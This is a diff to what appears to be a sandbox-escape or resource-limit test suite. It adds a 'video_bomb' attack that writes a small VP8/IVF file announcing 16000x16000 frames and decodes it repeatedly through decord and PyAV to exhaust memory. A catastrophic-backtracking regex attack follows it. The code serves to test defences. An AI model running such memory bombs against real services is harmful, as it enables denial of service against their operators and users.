@@ -222,6 +222,34 @@ except OSError as error:
 """,
     ),
     Attack(
+        "video_bomb",
+        "resources",
+        "decode small videos that announce huge frames",
+        """
+import resource, struct
+import decord
+size, body = 16_000, bytes(4000)
+frame = struct.pack("<I", 16 | len(body) // 2 << 5)[:3] + b"\\x9d\\x01\\x2a" + struct.pack("<HH", size, size) + body
+head = struct.pack("<4sHH4sHHIIII", b"DKIF", 0, 32, b"VP80", size, size, 25, 1, 1, 0)
+with open("bomb.ivf", "wb") as f:
+    f.write(head + struct.pack("<IQ", len(frame), 0) + frame)
+attempt("the reader", decord.VideoReader, "bomb.ivf")
+try:
+    import av
+except ImportError:
+    raise SystemExit("stopped: there is no PyAV")
+hoard = []
+for _ in range(4 * target["memory"] // (size * size) + 4):
+    video = av.open("bomb.ivf")
+    hoard.append(video)
+    try_quietly(lambda: hoard.append(list(video.decode(video=0))))
+    used = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
+    if used > 2 * target["memory"] + (512 << 20):
+        breach("%d MiB were used" % (used >> 20))
+        break
+""",
+    ),
+    Attack(
         "regular_expression",
         "resources",
         "a regular expression that backtracks for ever",
